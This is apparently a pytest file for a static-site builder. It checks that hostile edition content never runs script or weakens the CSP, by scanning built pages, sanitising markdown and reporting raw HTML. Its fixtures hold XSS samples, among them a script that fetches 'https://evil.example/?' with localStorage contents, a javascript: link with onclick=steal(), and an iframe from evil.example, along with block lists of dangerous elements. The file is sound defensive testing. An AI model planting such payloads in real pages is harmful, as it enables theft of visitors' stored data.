"""Edition content never runs script, redirects or changes the CSP (issue #9).

tests/hostile_edition.py puts every payload into every text field an edition
can set. Built strictly, every HTML file of the site is scanned: no script
but Material's known ones, no on* attribute, no javascript:/data: URL, no
meta refresh, base, iframe, object, form or style from content; and the CSP
holds exactly Material's known script hashes, the same as the national
site's. tests/browser/test_content_safety.py loads the pages in Chromium.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path

import markdown

from kmsat_build.cli import main as cli
from kmsat_build.csp import SCRIPT, inline_script_hashes, script_hash
from kmsat_build.raw_html import raw_html_findings
from kmsat_build.sanitise import sanitise_html
from tests.conftest import ROOT
from tests.hostile_edition import (
    DOCS_PAGE,
    PAYLOADS,
    text_fields,
)

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
# Elements content may never put in a page. Material's own forms (search, colour
# scheme) are the only forms; it has no <style>, <iframe>, <object> or <base>.
NEVER = {"iframe", "frame", "object", "embed", "base", "style", "applet", "svg:script"}
THEME_FORMS = {"md-search__form", "md-header__option"}


def policy_hashes(site: Path) -> set[str]:
    policy = (site / "csp.txt").read_text(encoding="utf-8")
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    return set(re.findall(r"'sha256-[^']+'", script_src))


class Scan(HTMLParser):
    """Everything in a page that could run, redirect or load from elsewhere."""

    def __init__(self, known: set[str]):
        super().__init__(convert_charrefs=True)
        self.known = known
        self.found: list[str] = []
        self.script: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = {k.lower(): v or "" for k, v in attrs}
        for name, value in attrs.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and re.match(r"\s*(javascript|vbscript|data):", value, re.I):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            if name in URL_ATTRIBUTES and re.match(r"\s*(https?:)?//", value, re.I):
                if tag != "a":  # a link may go elsewhere; nothing may load from elsewhere
                    self.found.append(f"<{tag} {name}={value[:40]}> loads from another host")
        if tag in NEVER:
            self.found.append(f"<{tag}>")
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta http-equiv=refresh>")
        if tag == "form" and not set(attrs.get("class", "").split()) & THEME_FORMS:
            self.found.append("<form> that is not the theme's")
        if tag == "script":
            self.script = attrs
            self.body = ""

    def handle_data(self, data):
        if self.script is not None:
            self.body += data

    def handle_endtag(self, tag):
        if tag == "script" and self.script is not None:
            attrs, body = self.script, self.body
            self.script = None
            if "src" in attrs:
                if re.match(r"\s*(https?:)?//", attrs["src"]) or body.strip():
                    self.found.append(f"<script src={attrs['src'][:40]}>")
            elif attrs.get("type") == "application/json":
                if attrs.get("id") != "__config":
                    self.found.append("<script type=application/json> that is not Material's")
            elif script_hash(body) not in self.known:
                self.found.append(f"<script> not in the known set: {body[:60]!r}")


def scan_site(site: Path) -> dict[str, list[str]]:
    """Each page's findings (an empty dict: nothing found anywhere)."""
    known = policy_hashes(site)
    found = {}
    for page in sorted(site.rglob("*.html")):
        scan = Scan(known)
        scan.feed(page.read_text(encoding="utf-8"))
        if scan.found:
            found[page.relative_to(site).as_posix()] = sorted(set(scan.found))
    return found


# ---------------------------------------------------------------- the fixture covers every field


def test_the_hostile_edition_fills_every_text_field(hostile):
    _, data = hostile
    fields = text_fields(data)
    # Every top-level part of edition.yml that holds text, and many fields in each.
    assert {path[0] for path, _ in fields} == {
        "edition",
        "branding",
        "home",
        "letter",
        "checklist",
        "scale",
        "elements",
        "criteria",
        "techniques",
        "add_techniques",
        "guides",
        "strings",
    }
    leaves = {path[-1] for path, _ in fields if isinstance(path[-1], str)}
    for key in ["publisher", "title", "intro", "body", "hint", "statement", "heading"]:
        assert key in leaves, key
    assert {path[1] for path, _ in fields if path[0] == "strings"} >= {"page.nav.home"}
    assert len(fields) > 500


# ---------------------------------------------------------------- (a) and (b): the built files


def test_no_built_page_holds_anything_that_could_run(hostile_site):
    assert scan_site(hostile_site) == {}


def test_the_scan_finds_each_kind_of_payload(tmp_path):
    """The scanner is not blind: the raw payloads, written as a page, are all found."""
    page = tmp_path / "raw.html"
    page.write_text("<html><body>" + "\n".join(PAYLOADS) + "</body></html>", encoding="utf-8")
    found = " ".join(scan_site_files(page, known=set())).lower()
    for sign in [
        "<script> not in the known set",
        "<script src=https://evil.example",
        "<img onerror",
        "<a onclick",
        "<a href=javascript:",
        "<a href=data:",
        "<svg onload",
        "<meta http-equiv=refresh>",
        "<base>",
        "<iframe>",
        "<object>",
        "<embed>",
        "<form> that is not the theme's",
        "<style>",
        "<details ontoggle",
        "<img src=https://evil.example/track.png> loads from another host",
        "<link href=https://evil.example/x.css> loads from another host",
    ]:
        assert sign in found, sign


def scan_site_files(page: Path, known: set[str]) -> list[str]:
    scan = Scan(known)
    scan.feed(page.read_text(encoding="utf-8"))
    return scan.found


def test_the_policy_holds_exactly_materials_known_script_hashes(hostile_site, national_site):
    hostile, national = policy_hashes(hostile_site), policy_hashes(national_site)
    assert hostile == national, "content changed which scripts the CSP allows"
    for name in ["_headers", ".htaccess", "web.config", "csp-nginx.conf"]:
        text = (hostile_site / name).read_text(encoding="utf-8")
        assert (national_site / "csp.txt").read_text().strip() in text, name
    # Each hash is one of Material's own script templates (with a page depth's base URL
    # for its placeholders), and every page's scripts are among them.
    templates = resources.files("material").joinpath("templates/partials/javascripts")
    bodies = [
        m.group("body")
        for t in templates.iterdir()
        if t.name.endswith(".html")
        for m in SCRIPT.finditer(t.read_text(encoding="utf-8"))
    ]
    material = {
        script_hash(re.sub(r"\{\{[^}]*\}\}", base, body))
        for body in bodies
        for base in (".", "..", "/")
    }
    assert hostile <= material, hostile - material
    used = set()
    for page in hostile_site.rglob("*.html"):
        used |= inline_script_hashes(page.read_text(encoding="utf-8"))
    assert used and used <= hostile
    assert not any(
        "pwned" in m.group(0)
        for p in hostile_site.rglob("*.html")
        for m in SCRIPT.finditer(p.read_text(encoding="utf-8"))
    )


def test_header_files_also_set_the_headers_a_meta_cannot(hostile_site):
    headers = (hostile_site / "_headers").read_text(encoding="utf-8")
    assert "  X-Content-Type-Options: nosniff\n" in headers
    assert "  Referrer-Policy: no-referrer\n" in headers
    assert "  Permissions-Policy: " in headers and "camera=()" in headers
    assert "frame-ancestors 'self'" in headers
    for name, shape in [
        (".htaccess", 'Header set X-Content-Type-Options "nosniff"'),
        ("web.config", '<add name="Referrer-Policy" value="no-referrer" />'),
        ("csp-nginx.conf", 'add_header X-Content-Type-Options "nosniff" always;'),
    ]:
        assert shape in (hostile_site / name).read_text(encoding="utf-8"), name


def test_titles_and_ui_strings_show_their_html_as_text(hostile_site):
    """Plain-text fields are escaped, not dropped: the page shows what the editor typed."""
    home = (hostile_site / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.__pwned=1;document.title='pwned'&lt;/script&gt;" in home
    assert home.count("&lt;/title&gt;&lt;script&gt;") >= 2  # the heading and the nav, at least
    title = re.search(r"<title>(.*?)</title>", home, re.S).group(1)
    assert "<" not in title


def test_a_hand_written_page_is_sanitised_too(hostile_site):
    local = (hostile_site / DOCS_PAGE.replace(".md", ".html")).read_text(encoding="utf-8")
    article = local[local.index("<article") : local.index("</article>")]
    assert '<h1 id="our-page">' in article and "<p>Attribute list</p>" in article
    assert "<script" not in article and not re.search(r"<[^>]*\son\w+=", article)


# ---------------------------------------------------------------- legitimate content is kept


LEGITIMATE = """\
Read the [guidance letter](letter.md), *emphasis*, **strong**, `code` and <abbr title="Knowledge and library services">KLS</abbr>.
Write to [us](mailto:library@example.org) or see <https://www.england.nhs.uk/>.

- one
- two

1. first
2. second

| Column | Aligned |
| --- | :---: |
| cell | centre |

> a quotation

<details><summary>More</summary>hidden text</details>
"""


def test_legitimate_markdown_renders_as_before():
    html = markdown.markdown(
        LEGITIMATE, extensions=["tables", "attr_list", "md_in_html", "admonition"]
    )
    # The same HTML, but for how nh3 writes a void tag and a style attribute.
    expected = html.replace("<hr />", "<hr>").replace("text-align: center;", "text-align:center")
    assert 'style="text-align: center;"' in html
    assert sanitise_html(html) == expected


def test_the_allow_list_drops_each_kind_of_payload():
    html = markdown.markdown("\n\n".join(PAYLOADS), extensions=["attr_list", "md_in_html"])
    clean = sanitise_html(html)
    for gone in [
        "<script",
        "onerror",
        "onclick",
        "onload",
        "ontoggle",
        "onfocus",
        "javascript:",
        "data:",
        "<meta",
        "<base",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<style",
        "style=",
        "<svg",
        "<link",
        "evil.example/track.png",
    ]:
        assert gone not in clean.lower(), gone
    assert 'href="https://evil.example/"' in clean  # a plain link elsewhere is still a link


# ---------------------------------------------------------------- kmsat check says what it drops


def test_check_reports_each_field_with_raw_html_to_drop(hostile):
    folder, data = hostile
    everything = raw_html_findings(folder)
    findings = [f for f in everything if f.file == "edition.yml"]
    # The hand-written docs/ page (the same payload) is reported too, line by line.
    assert {f.file for f in everything} == {"edition.yml", f"docs/{DOCS_PAGE}"}
    by_key = {(f.file, f.path): f for f in findings}
    assert all(f.line > 0 for f in findings)
    body = by_key[("edition.yml", "letter.body")]
    lines = (folder / "edition.yml").read_text(encoding="utf-8").splitlines()
    assert lines[body.line - 1].lstrip().startswith("body:")
    for what in [
        "<script> and its content",
        "<svg> and its content",
        "<iframe> and its content",
        "<meta>",
        "<base>",
        "<form>",
        "<style> and its content",
        "onerror= on <img>",
        "onclick= on <a>",
        "a javascript: link",
        "a data: link",
        "an image from another host",
    ]:
        assert what in body.message, (what, body.message)
    title = by_key[("edition.yml", "home.title")]
    assert "shown as text" in title.message
    # Every prose or plain-text field with a payload is reported, none twice.
    assert len(by_key) == len(findings)
    assert len(findings) >= len(text_fields(data)) - 5  # logo, favicon and contact have formats


def test_check_prints_the_findings_and_still_passes(hostile, capsys):
    folder, _ = hostile
    assert cli(["check", str(folder)]) == 0
    err = capsys.readouterr().err
    assert re.search(
        r"edition\.yml:\d+: warning: letter\.body: raw HTML that will be dropped: ", err
    )


def test_check_finds_nothing_in_the_national_framework():
    assert raw_html_findings(ROOT / "framework", ROOT / "docs") == []


DOCS_PAGE_WITH_HTML = """# Our library

Opening hours are below.

<script>fetch("https://evil.example/?" + localStorage.kmsat)</script>

Ask us: <a href="javascript:alert(1)" onclick="steal()">here</a>.

```html
<iframe src="https://evil.example/"></iframe>
```

<!-- a note for the team -->
"""


def test_check_reports_raw_html_in_hand_written_docs_pages_at_their_lines(tmp_path, capsys):
    import shutil

    folder = tmp_path / "edition"
    shutil.copytree(ROOT / "tests" / "editions" / "full", folder)
    (folder / "docs" / "hours.md").write_text(DOCS_PAGE_WITH_HTML, encoding="utf-8")
    found = {(f.file, f.line, f.message) for f in raw_html_findings(folder)}
    drop = "raw HTML that will be dropped: "
    assert found == {
        ("docs/hours.md", 5, drop + "<script> and its content"),
        ("docs/hours.md", 7, drop + "a javascript: link"),
        ("docs/hours.md", 7, drop + "onclick= on <a>"),
        ("docs/hours.md", 13, drop + "an HTML comment"),
    }  # the <iframe> in a code block is shown as code, so not dropped
    assert cli(["check", str(folder)]) == 0  # warnings: the build drops these, it does not fail
    err = capsys.readouterr().err
    assert "docs/hours.md:5: warning: raw HTML that will be dropped: <script>" in err
